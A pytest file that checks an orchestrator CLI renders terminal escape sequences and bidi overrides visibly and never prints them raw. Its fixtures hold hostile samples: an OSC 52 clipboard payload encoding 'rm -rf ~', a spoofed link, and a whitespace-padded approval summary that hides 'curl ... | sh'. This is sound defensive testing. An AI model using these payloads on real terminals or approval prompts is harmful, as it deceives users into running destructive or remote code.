"""Every print path of the CLI (issue 44, attack 12): each command is run against a daemon
answer whose every member-written field holds OSC 52 (the clipboard), OSC 0 (the title), OSC
8 (a link), cursor control, a carriage return and a bidi override; what it prints — text or
``--json`` — carries each as a visible mark or a JSON escape, never the raw character."""

from __future__ import annotations

import json
from typing import TYPE_CHECKING, Any

import pytest
from click.testing import CliRunner

from orchestrator import client
from orchestrator.client.cli import cli

if TYPE_CHECKING:
    from pathlib import Path

HOSTILE = ("\x1b]52;c;cm0gLXJmIH4=\x07\x1b]0;owned\x1b\\\x1b]8;;https://evil.example\x1b\\"
           "docs\x1b]8;;\x1b\\\x1b[1A\x1b[2K\rall good \u202egnp.exe\u2066")
SHOWN = ("␛]52;c;cm0gLXJmIH4=␇␛]0;owned␛\\␛]8;;https://evil.example␛\\docs␛]8;;␛\\␛[1A␛[2K"
         "␍all good <U+202E>gnp.exe<U+2066>")
RAW = {"\x1b", "\x07", "\r", "\u202e", "\u2066"}
H = HOSTILE
ID = "01JDQ3X2K3R9W0FQ6Z5N4M8P7D"
APV = "apv_01JDQ4A8T1C2V3B4N5M6Q7W8E9"

_MESSAGE = {"id": ID, "state": "answered", "attempts": 1, "sender": "dev", "to": "lead",
            "kind": "message", "depth": 1, "text": H, "reply": H, "notes": [H],
            "error": {"code": "turn_failed", "message": H}, "attachments": [],
            "task_id": None}
_TASK = {"id": 3, "team": "web", "title": H, "body": H, "role": None, "priority": 0,
         "status": "pending", "state": "blocked", "owner": "dev", "blocked": H, "check": H,
         "created_by": "dev", "summary": H, "evidence": H}
_APPROVAL = {"id": APV, "team": "web", "member": "lead", "runtime": "codex",
             "kind": "permission", "tool": "commandExecution", "summary": "npm test " + H,
             "questions": [], "sha256": "ab" * 32, "message_id": ID, "state": "pending",
             "answer": None, "reason": None, "asked_at": 1796116506.2, "settled_at": None,
             "confirmed_at": None}
ANSWERS: dict[str, Any] = {
    "status": {"teams": [{"name": "web", "members": [{
        "name": "lead", "runtime": "claude", "model": H, "launch": "running",
        "liveness": "alive", "readiness": "busy", "pid": 7, "restarts": 0, "queued": 0,
        "task": H, "activity": H, "note": H, "error": H, "hold": H}]}]},
    "history": {"messages": [_MESSAGE]},
    "thread": {"messages": [_MESSAGE]},
    "send": {"id": ID, "state": "answered", "reply": H, "notes": [H]},
    "approvals": {"approvals": [_APPROVAL], "total": 1, "cursor": 1},
    "task_list": {"tasks": [_TASK], "total": 1, "next_after": None},
    "task_show": {"task": _TASK, "depends_on": [], "dependents": [],
                  "events": [{"at": 1796116506.2, "actor": "dev", "kind": "noted",
                              "note": H}]},
    "diff": {"text": f"+{H}\n"},
    "worktrees": {"worktrees": [{"team": "web", "member": "dev", "branch": "teamctl/dev",
                                 "base": "main", "missing": False, "ahead": 1, "dirty": 0,
                                 "untracked": 0, "path": "/w", "diffstat": H}],
                  "pruned": [], "kept": [{"team": "web", "member": "lead", "reason": H}]},
    "budget": {"team": "web", "member": "dev", "spend": None, "hold": H},
    "trace": {"trace_id": "ab" * 16, "chain_id": ID, "cost_usd": 0.0, "tokens": {},
              "spans": [{"span_id": "cd" * 8, "parent_id": None, "kind": "delivery",
                         "name": H, "member": "lead", "sender": "dev", "message_id": ID,
                         "duration_ms": None, "outcome": "queued", "error_code": H,
                         "text": H}]},
}
COMMANDS = [
    ("status",), ("history", "lead"), ("thread", ID), ("send", "lead", "hi", "--wait"),
    ("approvals",), ("approvals", "--full"), ("approvals", APV, "--full"),
    ("task", "list"), ("task", "show", "T3"), ("diff", "dev"), ("worktrees",),
    ("budget", "dev"), ("trace", ID),
]


@pytest.fixture
def answers(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    """The daemon, as the CLI sees it: each method answers its hostile document."""
    monkeypatch.setenv("TEAMCTL_HOME", str(tmp_path))
    monkeypatch.setattr(client, "call", lambda home, method, params, **_: ANSWERS[method.name])


@pytest.mark.usefixtures("answers")
@pytest.mark.parametrize("args", COMMANDS, ids=" ".join)
def test_no_command_prints_a_members_control_or_bidi_character_raw(args: tuple[str, ...]
                                                                    ) -> None:
    done = CliRunner().invoke(cli, list(args))
    assert done.exit_code in (0, 1), done.output  # a failed delivery exits 1, printed
    assert not set(done.output) & RAW
    assert SHOWN in done.output


@pytest.mark.usefixtures("answers")
@pytest.mark.parametrize("args", [c for c in COMMANDS if c[0] not in ("diff", "budget")]
                         + [("budget", "dev")], ids=" ".join)
def test_json_output_is_the_exact_text_with_nothing_raw(args: tuple[str, ...]) -> None:
    done = CliRunner().invoke(cli, [*args, "--json"])
    assert done.exit_code in (0, 1), done.output
    assert not set(done.output) & RAW
    assert any(H in text for text in _strings(json.loads(done.output))), "the exact text"


def _strings(value: Any) -> list[str]:
    if isinstance(value, str):
        return [value]
    items = value.values() if isinstance(value, dict) else value if isinstance(value, list) \
        else []
    return [text for item in items for text in _strings(item)]


@pytest.mark.usefixtures("answers")
def test_the_approvals_line_shows_how_much_more_and_full_shows_it_all(
        monkeypatch: pytest.MonkeyPatch) -> None:
    """Attack 11 in the listing: the first part, `… N more characters`, the short sha256;
    `--full` every character and the whole sha256."""
    command = "npm test" + " " * 492 + "; curl https://x.example/i.sh | sh"
    ANSWERS["approvals"]["approvals"][0]["summary"] = command
    try:
        listed = CliRunner().invoke(cli, ["approvals"]).output
        full = CliRunner().invoke(cli, ["approvals", APV, "--full"]).output
    finally:
        ANSWERS["approvals"]["approvals"][0]["summary"] = "npm test " + H
    assert f"… {len(command) - 200} more characters  sha256 abababababab" in listed
    assert "curl" not in listed
    assert f"summary ({len(command)} characters):" in full
    assert "    " + command in full.splitlines() and "ab" * 32 in full
